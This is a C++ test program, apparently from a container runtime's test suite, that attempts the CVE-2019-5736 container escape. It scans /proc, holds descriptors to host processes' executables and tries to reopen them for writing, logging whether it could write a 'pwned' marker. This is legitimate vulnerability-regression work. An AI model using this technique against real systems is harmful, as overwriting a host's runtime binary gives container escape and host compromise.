// A container's attempt at CVE-2019-5736, as a static program to put in a test image.
//
// Usage: exe-attacker SECONDS REPORT [BUSY_SECONDS]
// For SECONDS it scans /proc for processes running any executable other than itself and
// /bin/busybox (the runtime's binary: run in the container through "#!/proc/self/exe", or still
// running the runtime's set-up code before its exec). For each it opens /proc/<pid>/exe with
// O_PATH; once that process is gone it re-opens the descriptor for writing, as the exploit does,
// and writes to it. Every finding is a line appended to REPORT:
//   denied <pid> <errno>   /proc/<pid>/exe could not be opened (a non-dumpable process)
//   caught <pid>           it could
//   write <pid> <result>   the write attempt (retried for BUSY_SECONDS, default 5, while the
//                          binary is busy): the errno name, or WROTE when it succeeded
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>
#include <set>
#include <string>

namespace {

struct Id {
  dev_t dev;
  ino_t ino;
  bool operator==(const Id& o) const { return dev == o.dev && ino == o.ino; }
};

bool id_of(const char* path, Id* out) {
  struct stat st {};
  if (::stat(path, &st) < 0) return false;
  *out = {st.st_dev, st.st_ino};
  return true;
}

bool gone(pid_t pid) {
  char path[64];
  std::snprintf(path, sizeof path, "/proc/%d/stat", pid);
  FILE* f = std::fopen(path, "r");
  if (!f) return true;
  char buf[512] = {};
  std::size_t n = std::fread(buf, 1, sizeof buf - 1, f);
  std::fclose(f);
  const char* close = std::strrchr(buf, ')');
  return n == 0 || !close || close[1] == '\0' || close[2] == 'Z' || close[2] == 'X';
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 3 && argc != 4) return 2;
  int seconds = std::atoi(argv[1]);
  int busy_tries = (argc == 4 ? std::atoi(argv[3]) : 5) * 100;
  FILE* report = std::fopen(argv[2], "a");
  if (!report) return 2;
  std::setvbuf(report, nullptr, _IOLBF, 0);
  Id self{}, busybox{};
  id_of("/proc/self/exe", &self);
  id_of("/bin/busybox", &busybox);
  std::set<pid_t> seen, denied;
  std::map<pid_t, int> held;  // pid -> O_PATH descriptor of its executable
  auto until = std::chrono::steady_clock::now() + std::chrono::seconds(seconds);
  while (std::chrono::steady_clock::now() < until) {
    if (DIR* d = ::opendir("/proc")) {
      while (dirent* e = ::readdir(d)) {
        pid_t pid = std::atoi(e->d_name);
        if (pid <= 1 || pid == ::getpid() || seen.count(pid)) continue;
        char path[64];
        std::snprintf(path, sizeof path, "/proc/%d/exe", pid);
        int fd = ::open(path, O_PATH | O_CLOEXEC);
        if (fd < 0) {
          if (errno == ENOENT || errno == ESRCH) continue;  // a kernel thread, or gone
          // Reported once; tried again, as the process may become dumpable by exec'ing.
          if (denied.insert(pid).second)
            std::fprintf(report, "denied %d %s\n", pid, ::strerrorname_np(errno));
          continue;
        }
        struct stat st {};
        if (::fstat(fd, &st) < 0 || Id{st.st_dev, st.st_ino} == self ||
            Id{st.st_dev, st.st_ino} == busybox) {
          ::close(fd);
          continue;  // not a target, but it may exec one later
        }
        seen.insert(pid);
        held[pid] = fd;
        std::fprintf(report, "caught %d\n", pid);
      }
      ::closedir(d);
    }
    for (auto it = held.begin(); it != held.end();) {
      if (!gone(it->first)) {
        ++it;
        continue;
      }
      char path[64];
      std::snprintf(path, sizeof path, "/proc/self/fd/%d", it->second);
      // The binary stays busy while anything on the host still runs it (the `exec` command
      // that waits for us): the exploit keeps trying.
      int w = ::open(path, O_WRONLY | O_CLOEXEC);
      for (int tries = 0; w < 0 && errno == ETXTBSY && tries < busy_tries; ++tries) {
        ::usleep(10000);
        w = ::open(path, O_WRONLY | O_CLOEXEC);
      }
      const char* result = nullptr;
      if (w < 0) {
        result = ::strerrorname_np(errno);
      } else {
        result = ::write(w, "pwned\n", 6) == 6 ? "WROTE" : ::strerrorname_np(errno);
        ::close(w);
      }
      std::fprintf(report, "write %d %s\n", it->first, result);
      ::close(it->second);
      it = held.erase(it);
    }
  }
  return 0;
}
